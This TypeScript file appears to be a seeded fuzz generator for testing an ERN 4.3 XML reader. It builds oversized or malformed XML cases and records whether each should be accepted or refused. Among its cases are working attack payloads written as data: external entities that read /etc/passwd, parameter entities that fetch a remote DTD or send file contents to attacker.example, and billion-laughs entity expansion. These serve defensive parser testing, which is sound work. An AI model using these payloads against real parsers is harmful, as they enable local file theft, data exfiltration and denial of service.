/**
 * A seeded generator of hostile XML structure (issue #29 item 8): depth, namespace prefixes, attributes, long names,
 * many siblings, entities and mixtures of them, each put inside a valid ERN 4.3 message, with the verdict the
 * readers owe it. Case `index` of seed `seed` is always the same message: `hostileCase(base, seed, index, scale)`
 * replays it. Plain erasable TypeScript without test imports, so that a worker thread can run it from source
 * (hostile-structure-worker.ts).
 */
import { seededRandom, type Random } from '../../conformance/fuzz/random.js';
import { defaultXmlStructureLimits, type XmlLimitName } from '../../mock-server/src/xml/limits.js';

/** What the readers must answer: accept, or refuse with this code (over a limit: naming one of `limits`). */
export type HostileVerdict =
  | { ok: true }
  | { ok: false; code: 'XML_TOO_COMPLEX'; limits: XmlLimitName[] }
  | { ok: false; code: 'XML_DOCTYPE_FORBIDDEN' | 'XML_MALFORMED' };

export interface HostileCase {
  seed: number;
  index: number;
  kind: HostileKind;
  /** The shape, with its sizes: what a failure prints beside the replay call. */
  description: string;
  xml: string;
  expected: HostileVerdict;
  /** Read as UTF-8 bytes (the scanner's UTF-8 unit path) rather than as a string. */
  asBytes: boolean;
}

/** How big the cases grow: `npm test` takes `ci`, `npm run test:fuzz` `fuzz`. */
export interface HostileScale {
  /** Length of a long element, prefix or attribute name, attribute value or text: between these. */
  longName: readonly [min: number, max: number];
  /** Levels of the far-over-depth case. */
  farDepth: readonly [min: number, max: number];
  /** Empty sibling elements. */
  siblings: readonly [min: number, max: number];
  /** Attributes on one element, over the limit. */
  attributes: readonly [min: number, max: number];
  /** Namespace declarations in a case over a namespace limit (on one element, or spread). */
  prefixes: readonly [min: number, max: number];
}

export const hostileScales = {
  ci: {
    longName: [64 * 1024, 1024 * 1024], farDepth: [10_000, 100_000], siblings: [100_000, 100_000],
    attributes: [257, 20_000], prefixes: [257, 10_000],
  },
  fuzz: {
    longName: [256 * 1024, 4 * 1024 * 1024], farDepth: [100_000, 1_000_000], siblings: [100_000, 1_000_000],
    attributes: [257, 200_000], prefixes: [257, 100_000],
  },
} as const satisfies Record<string, HostileScale>;

const limits = defaultXmlStructureLimits;

/** Where a piece goes in the base message, and the depth of the element it goes into (the root is 1). */
const POINTS = {
  root: { after: 'NewReleaseMessage', depth: 1 },
  header: { after: '<MessageHeader>', depth: 2 },
  resources: { after: '<ResourceList>', depth: 2 },
  // MessageHeader/MessageSender/PartyName/FullName in both DDEX's 1_Audio.xml and the demo release.
  text: { after: '<FullName>', depth: 5 },
} as const;
type Point = keyof typeof POINTS;

/** A piece of hostile XML for one point of the message, and what it does to the verdict. */
interface Piece {
  at: Point | 'prolog';
  xml: string;
  /** Namespace declarations it adds to the message. */
  declares: number;
  expected: HostileVerdict;
  description: string;
  /** For a DOCTYPE: the entity referenced in FullName. */
  reference?: string;
  /** Attributes added to the root element's start tag. */
  onRoot?: string;
}

const ok: HostileVerdict = { ok: true };
const over = (...names: XmlLimitName[]): HostileVerdict => ({ ok: false, code: 'XML_TOO_COMPLEX', limits: names });
/** Over 256 declarations on one element is over its attributes too (they count), and either limit may be named. */
const overOnOneElement = (declared: number): HostileVerdict => (declared > limits.maxAttributesPerElement
  ? over('maxNamespacesPerElement', 'maxAttributesPerElement')
  : over('maxNamespacesPerElement'));
const doctype: HostileVerdict = { ok: false, code: 'XML_DOCTYPE_FORBIDDEN' };
const malformed: HostileVerdict = { ok: false, code: 'XML_MALFORMED' };

/** Context of a piece's generator: the random source, the scale, and the namespace declarations it may still add. */
interface Draw {
  random: Random;
  scale: HostileScale;
  /** Declarations the message may still take before maxNamespacesPerMessage. */
  namespaceBudget: number;
}

const pointsOf = (random: Random, ...points: Point[]): Point => random.pick(points);
const anyPoint = (random: Random): Point => random.pick(Object.keys(POINTS) as Point[]);

/** A name of `length` characters that XML 1.0 and Namespaces allow (no colon), built from a random chunk. */
function longName(random: Random, length: number): string {
  const chunk = random.text(64, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.');
  return `n${chunk.repeat(Math.ceil(length / chunk.length)).slice(0, length - 1)}`;
}

/** Text of `length` characters with the predefined entities and character references, which are not DOCTYPE entities. */
function longText(random: Random, length: number): string {
  const chunk = `${random.text(50, 'abc xyz0123456789')}&amp;&lt;&gt;&quot;&apos;&#233;&#x1F3B5;`;
  return chunk.repeat(Math.ceil(length / chunk.length));
}

/** `levels` elements each inside the one before, closed unless `unclosed`. */
function nested(levels: number, open: string, close: string, unclosed = false): string {
  return open.repeat(levels) + (unclosed ? '' : close.repeat(levels));
}

function declarations(count: number, from = 0): string {
  let out = '';
  for (let i = from; i < from + count; i++) out += ` xmlns:p${i}="urn:p${i}"`;
  return out;
}

function attributes(count: number): string {
  let out = '';
  for (let i = 0; i < count; i++) out += ` a${i}="${i}"`;
  return out;
}

/** The pieces of each kind. A kind's name says what it does; `…-under` and `…-at-limit` pieces must be accepted. */
const KINDS = {
  'depth-at-limit': ({ random }) => {
    const at = pointsOf(random, 'root', 'header', 'text');
    const levels = limits.maxDepth - POINTS[at].depth - random.int(0, 2);
    return { at, xml: nested(levels, '<d>', '</d>'), declares: 0, expected: ok, description: `${levels} nested elements in ${at}, deepest at ${POINTS[at].depth + levels}` };
  },
  'depth-over': ({ random }) => {
    const at = pointsOf(random, 'root', 'header', 'text');
    const levels = limits.maxDepth - POINTS[at].depth + 1 + random.int(0, 2);
    return { at, xml: nested(levels, '<d>', '</d>'), declares: 0, expected: over('maxDepth'), description: `${levels} nested elements in ${at}, deepest at ${POINTS[at].depth + levels}` };
  },
  'depth-far-over': ({ random, scale }) => {
    const at = anyPoint(random);
    const levels = random.int(...scale.farDepth);
    const unclosed = random.next() < 0.3;
    const element = random.pick(['d', 'ern:d', 'LongerElementName']);
    return {
      at, xml: nested(levels, `<${element}>`, `</${element}>`, unclosed), declares: 0, expected: over('maxDepth'),
      description: `${levels} nested <${element}> in ${at}${unclosed ? ', never closed' : ''}`,
    };
  },
  'prefixes-on-one-element': ({ random, namespaceBudget }) => {
    const count = random.int(1, Math.min(limits.maxNamespacesPerElement, namespaceBudget));
    return { at: anyPoint(random), xml: `<p0:e${declarations(count)}><p${count - 1}:f/></p0:e>`, declares: count, expected: ok, description: `${count} namespace declarations on one element` };
  },
  'prefixes-over-on-one-element': ({ random, scale }) => {
    const count = random.next() < 0.5 ? limits.maxNamespacesPerElement + 1 : random.int(...scale.prefixes);
    return { at: anyPoint(random), xml: `<e${declarations(count)}/>`, declares: count, expected: overOnOneElement(count), description: `${count} namespace declarations on one element` };
  },
  'prefixes-spread': ({ random, namespaceBudget }) => {
    const total = random.int(1, namespaceBudget);
    let xml = '';
    for (let i = 0; i < total;) {
      const here = Math.min(random.int(1, 3), total - i);
      xml += `<s${declarations(here, i)}><p${i}:t/></s>`;
      i += here;
    }
    return { at: anyPoint(random), xml, declares: total, expected: ok, description: `${total} namespace declarations spread over sibling elements` };
  },
  'prefixes-spread-over': ({ random, scale, namespaceBudget }) => {
    const many = random.int(Math.max(namespaceBudget + 1, scale.prefixes[0]), scale.prefixes[1]);
    const total = random.next() < 0.5 ? namespaceBudget + 1 : many;
    let xml = '';
    for (let i = 0; i < total; i++) xml += `<s xmlns:p${i}="urn:p${i}"/>`;
    return { at: anyPoint(random), xml, declares: total, expected: over('maxNamespacesPerMessage'), description: `${total} namespace declarations, one per sibling element` };
  },
  'prefix-redeclared-under': ({ random, namespaceBudget }) => {
    const at = pointsOf(random, 'root', 'header', 'text');
    const levels = random.int(1, Math.min(namespaceBudget, limits.maxDepth - POINTS[at].depth));
    return { at, xml: nested(levels, '<q:a xmlns:q="urn:q">', '</q:a>'), declares: levels, expected: ok, description: `xmlns:q declared again at each of ${levels} levels in ${at}` };
  },
  'prefix-redeclared-over': ({ random, scale }) => {
    const levels = random.int(Math.max(300, scale.prefixes[0]), Math.max(12_000, scale.prefixes[1]));
    return { at: anyPoint(random), xml: nested(levels, '<a xmlns:q="urn:q">', '</a>'), declares: levels, expected: over('maxDepth', 'maxNamespacesPerMessage'), description: `xmlns:q declared again at each of ${levels} levels` };
  },
  'namespace-bomb': ({ random, scale }) => {
    // The probe's message of issue #29 (hostile-xml.ts namespaceBomb): prefixes on the root, xmlns:q at every level.
    const prefixes = random.int(limits.maxNamespacesPerElement + 1, Math.max(10_000, scale.prefixes[1]));
    const levels = random.int(1_000, 12_000);
    return {
      at: 'text', onRoot: declarations(prefixes), xml: nested(levels, '<a xmlns:q="urn:q">', '</a>'), declares: prefixes + levels,
      expected: overOnOneElement(prefixes + 2), description: `${prefixes} prefixes on the root and xmlns:q at each of ${levels} levels`,
    };
  },
  'attributes-at-limit': ({ random }) => {
    const count = limits.maxAttributesPerElement - random.int(0, 2);
    return { at: anyPoint(random), xml: `<e${attributes(count)}/>`, declares: 0, expected: ok, description: `${count} attributes on one element` };
  },
  'attributes-over': ({ random, scale }) => {
    const count = random.next() < 0.5 ? limits.maxAttributesPerElement + 1 : random.int(...scale.attributes);
    return { at: anyPoint(random), xml: `<e${attributes(count)}></e>`, declares: 0, expected: over('maxAttributesPerElement'), description: `${count} attributes on one element` };
  },
  'attributes-spread': ({ random }) => {
    const elements = random.int(100, 1_000);
    const each = random.int(100, limits.maxAttributesPerElement);
    return { at: anyPoint(random), xml: `<e${attributes(each)}/>`.repeat(elements), declares: 0, expected: ok, description: `${elements} elements with ${each} attributes each` };
  },
  'long-element-name': ({ random, scale }) => {
    const name = longName(random, random.int(...scale.longName));
    const empty = random.next() < 0.5;
    return { at: anyPoint(random), xml: empty ? `<${name}/>` : `<${name}>x</${name}>`, declares: 0, expected: ok, description: `an element named with ${name.length} characters` };
  },
  'long-name-mismatched': ({ random, scale }) => {
    const name = longName(random, random.int(...scale.longName));
    return { at: anyPoint(random), xml: `<${name}>x</${name}x>`, declares: 0, expected: malformed, description: `an element of ${name.length} characters closed by another name` };
  },
  'long-prefix': ({ random, scale }) => {
    const prefix = longName(random, random.int(...scale.longName));
    return { at: anyPoint(random), xml: `<${prefix}:e xmlns:${prefix}="urn:long">x</${prefix}:e>`, declares: 1, expected: ok, description: `a namespace prefix of ${prefix.length} characters` };
  },
  'long-attribute-name': ({ random, scale }) => {
    const name = longName(random, random.int(...scale.longName));
    return { at: anyPoint(random), xml: `<e ${name}="v"/>`, declares: 0, expected: ok, description: `an attribute named with ${name.length} characters` };
  },
  'long-attribute-value': ({ random, scale }) => {
    const value = longText(random, random.int(...scale.longName));
    return { at: anyPoint(random), xml: `<e a="${value}"/>`, declares: 0, expected: ok, description: `an attribute value of ${value.length} characters` };
  },
  'long-text': ({ random, scale }) => {
    const text = longText(random, random.int(...scale.longName));
    return { at: 'text', xml: text, declares: 0, expected: ok, description: `${text.length} characters of text in FullName` };
  },
  'many-siblings': ({ random, scale }) => {
    const count = random.int(...scale.siblings);
    const element = random.pick(['<e/>', '<e></e>', '<e a="1"/>', '<ResourceReference/>']);
    return { at: anyPoint(random), xml: element.repeat(count), declares: 0, expected: ok, description: `${count} sibling ${element}` };
  },
  'entity-internal-subset': ({ random }) => ({
    at: 'prolog', xml: `<!DOCTYPE ern:NewReleaseMessage [<!ENTITY name "${random.text(20)}">]>`, reference: 'name', declares: 0, expected: doctype,
    description: 'an internal subset declaring an entity, referenced in FullName',
  }),
  'billion-laughs': ({ random }) => {
    const levels = random.int(9, 12);
    let subset = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= levels; i++) subset += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    return { at: 'prolog', xml: `<!DOCTYPE lolz [${subset}]>`, reference: `lol${levels}`, declares: 0, expected: doctype, description: `billion laughs, 10^${levels} expansions` };
  },
  'external-entity': ({ random }) => {
    const system = random.pick(['file:///etc/passwd', 'http://127.0.0.1:1/secret', 'https://attacker.example/x.xml', '/dev/zero']);
    return { at: 'prolog', xml: `<!DOCTYPE r [<!ENTITY xxe SYSTEM "${system}">]>`, reference: 'xxe', declares: 0, expected: doctype, description: `an external entity SYSTEM "${system}"` };
  },
  'parameter-entity': ({ random }) => {
    const xml = random.pick([
      '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
      '<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'http://attacker.example/?%file;\'>"> %wrap; %send;]>',
      '<!DOCTYPE r PUBLIC "-//A//DTD A//EN" "http://attacker.example/a.dtd">',
      '<!DOCTYPE r SYSTEM "file:///dev/urandom">',
    ]);
    return { at: 'prolog', xml, declares: 0, expected: doctype, description: `parameter entities or an external DTD: ${xml.slice(0, 60)}` };
  },
  'undefined-entity': ({ random }) => {
    const reference = random.pick(['&undefined;', '&lol9;', '&xxe;', '&a', '& ', '&#xZZ;', '&#0;']);
    const inAttribute = random.next() < 0.5;
    return { at: 'text', xml: inAttribute ? `<e a="${reference}"/>` : reference, declares: 0, expected: malformed, description: `${JSON.stringify(reference)} in ${inAttribute ? 'an attribute' : 'text'}, no DOCTYPE` };
  },
  'unbound-prefix': ({ random }) => ({ at: anyPoint(random), xml: '<zz:e/>', declares: 0, expected: malformed, description: 'an element prefix no xmlns declares' }),
} satisfies Record<string, (draw: Draw) => Piece>;

export type HostileKind = keyof typeof KINDS | 'mixture';
export const hostileKinds: readonly HostileKind[] = [...Object.keys(KINDS) as (keyof typeof KINDS)[], 'mixture'];

/** Kinds a mixture combines: every one that is not refused for what it is (an entity, a malformed name). */
const ACCEPTED_KINDS = ['depth-at-limit', 'prefixes-on-one-element', 'prefixes-spread', 'prefix-redeclared-under', 'attributes-at-limit', 'attributes-spread', 'long-element-name', 'long-prefix', 'long-attribute-name', 'long-attribute-value', 'long-text', 'many-siblings'] as const;
const OVER_KINDS = ['depth-over', 'depth-far-over', 'prefixes-over-on-one-element', 'attributes-over'] as const;

/** Namespace declarations of the base message (DDEX's 1_Audio.xml and the demo release: 2, on the root). */
function declarationsIn(xml: string): number {
  return xml.match(/\sxmlns(?::[^\s=]+)?\s*=/g)?.length ?? 0;
}

/** The seed of case `index`: each case has a random source of its own, so that one replays without the others. */
function caseSeed(seed: number, index: number): number {
  return (Math.imul(seed ^ 0x9e3779b9, 0x85ebca6b) + Math.imul(index + 1, 0xc2b2ae35)) >>> 0;
}

/**
 * Case `index` of `seed`: kinds in turn (the first {@link hostileKinds}.length cases are one of each), the sizes drawn
 * from `scale`, put inside `base` (a valid ERN 4.3 message, `audioMessage()`).
 */
export function hostileCase(base: string, seed: number, index: number, scale: HostileScale = hostileScales.ci): HostileCase {
  const random = seededRandom(caseSeed(seed, index));
  const kind = hostileKinds[index % hostileKinds.length]!;
  let budget = limits.maxNamespacesPerMessage - declarationsIn(base);
  const draw = (name: keyof typeof KINDS, share = 1): Piece => {
    const piece = KINDS[name]({ random, scale, namespaceBudget: Math.max(1, Math.floor(budget * share)) });
    budget -= piece.declares;
    return piece;
  };
  let pieces: Piece[];
  if (kind === 'mixture') {
    const count = random.int(2, 4);
    pieces = Array.from({ length: count }, () => draw(random.pick(ACCEPTED_KINDS), 1 / (count + 1)));
    // Half the mixtures carry one piece over a limit that the others' declarations cannot pass first.
    if (random.next() < 0.5) {
      const overPiece = draw(random.pick(OVER_KINDS));
      // Declarations over one element's limit may pass the message's first, after the others' declarations.
      if (!overPiece.expected.ok && overPiece.expected.code === 'XML_TOO_COMPLEX' && overPiece.declares > 0) {
        overPiece.expected = over(...overPiece.expected.limits, 'maxNamespacesPerMessage');
      }
      pieces.splice(random.int(0, pieces.length), 0, overPiece);
    }
  } else {
    pieces = [draw(kind)];
  }
  const refused = pieces.find((piece) => !piece.expected.ok);
  return {
    seed,
    index,
    kind,
    description: pieces.map((piece) => piece.description).join(' + '),
    xml: insert(base, pieces),
    expected: refused?.expected ?? ok,
    asBytes: random.next() < 0.5,
  };
}

/** `base` with each piece at its point; a DOCTYPE goes after the XML declaration and its entity is used in FullName. */
function insert(base: string, pieces: Piece[]): string {
  const at = (point: Point): number => {
    const { after } = POINTS[point];
    const found = base.indexOf(after);
    if (found < 0) throw new Error(`hostileCase: the base message has no ${after}`);
    return point === 'root' ? base.indexOf('>', found) + 1 : found + after.length;
  };
  const inserts = pieces.flatMap((piece): [number, string][] => {
    const root: [number, string][] = piece.onRoot === undefined ? [] : [[at('root') - 1, piece.onRoot]];
    if (piece.at !== 'prolog') return [...root, [at(piece.at), piece.xml]];
    const prolog = base.startsWith('<?xml') ? base.indexOf('?>') + 2 : 0;
    const use: [number, string][] = piece.reference === undefined ? [] : [[at('text'), `&${piece.reference};`]];
    return [[prolog, `\n<!-- a comment first -->\n${piece.xml}\n`], ...use];
  });
  // From the last point to the first, so that the earlier offsets hold; pieces at one point in their order.
  const lastFirst = inserts.map((entry, order) => ({ entry, order }))
    .sort((a, b) => b.entry[0] - a.entry[0] || b.order - a.order)
    .map(({ entry }) => entry);
  let xml = base;
  for (const [offset, text] of lastFirst) {
    xml = xml.slice(0, offset) + text + xml.slice(offset);
  }
  return xml;
}
